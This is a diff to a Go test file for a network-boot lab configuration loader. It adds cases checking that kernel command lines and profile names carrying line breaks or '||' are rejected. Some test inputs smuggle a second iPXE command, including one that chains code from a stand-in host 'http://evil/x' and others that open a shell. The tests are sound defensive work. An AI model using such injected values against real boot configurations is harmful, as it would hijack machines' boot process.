@@ -69,6 +69,10 @@ func writeLab(t *testing.T, content string) string {
 	dir := t.TempDir()
 	artifacts(t, filepath.Join(dir, "out", "qemu"), "qemu")
 	artifacts(t, filepath.Join(dir, "out", "install"), "install")
+	artifacts(t, filepath.Join(dir, "out", "bad"), "bad")
+	m, _ := manifest.Load(filepath.Join(dir, "out", "bad"))
+	m.Cmdline = "console=ttyS0\nshell"
+	m.Write(filepath.Join(dir, "out", "bad"))
 	path := filepath.Join(dir, "lab.yaml")
 	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
 		t.Fatal(err)
@@ -130,6 +134,11 @@ func TestLoadErrors(t *testing.T) {
 		{"yaml", "server: [\n", []string{"not valid YAML"}},
 		{"empty", "", []string{"empty"}},
 		{"not a map", "- a\n", []string{"the top level must be a mapping"}},
+		{"cmdline line break", "profiles:\n  qemu:\n    artifacts: out/qemu\n    cmdline: \"quiet\\nchain http://evil/x\"\n", []string{"lab.yaml:4: profiles.qemu.cmdline: the kernel command line contains a control character", "one line"}},
+		{"cmdline operator", "profiles:\n  qemu:\n    artifacts: out/qemu\n    cmdline: quiet || shell\n", []string{"lab.yaml:4: profiles.qemu.cmdline:", `"||" would chain another iPXE command`}},
+		{"profile name line break", "profiles:\n  \"a\\nshell\":\n    artifacts: out/qemu\n", []string{"lab.yaml:2: profiles.", "not a usable profile name"}},
+		{"profile name slash", "profiles:\n  a/b:\n    artifacts: out/qemu\n", []string{"lab.yaml:2:", "not a usable profile name"}},
+		{"manifest cmdline", "profiles:\n  bad:\n    artifacts: out/bad\n", []string{"lab.yaml:3: profiles.bad.artifacts:", "manifest.json: the kernel command line contains a control character"}},
 		{"two errors", "server:\n  http_port: 0\ndhcp:\n  lease_time: 5s\n", []string{"2 problems", "lab.yaml:2: server.http_port", "lab.yaml:4: dhcp.lease_time"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -254,17 +263,25 @@ func TestWatch(t *testing.T) {
 		}
 		return nil
 	}
+	// Edits replace the file, as editors do, so that no poll sees half
+	// of one.
+	edit := func(content string) {
+		os.WriteFile(path+".tmp", []byte(content), 0o644)
+		if err := os.Rename(path+".tmp", path); err != nil {
+			t.Fatal(err)
+		}
+	}
 	time.Sleep(50 * time.Millisecond)
-	os.WriteFile(path, []byte(strings.Replace(lab, "default: qemu", "default: install", 1)), 0o644)
+	edit(strings.Replace(lab, "default: qemu", "default: install", 1))
 	if f, ok := wait().(*File); !ok || f.Default != "install" {
 		t.Errorf("reload: %v", f)
 	}
-	os.WriteFile(path, []byte("default: nope\n"), 0o644)
+	edit("default: nope\n")
 	if err, ok := wait().(error); !ok || !strings.Contains(err.Error(), "nope") {
 		t.Errorf("bad reload: %v", err)
 	}
 	// A rebuilt image (new manifest) counts as a change.
-	os.WriteFile(path, []byte(lab), 0o644)
+	edit(lab)
 	wait()
 	time.Sleep(20 * time.Millisecond)
 	artifacts(t, filepath.Join(filepath.Dir(path), "out", "qemu"), "qemu2")
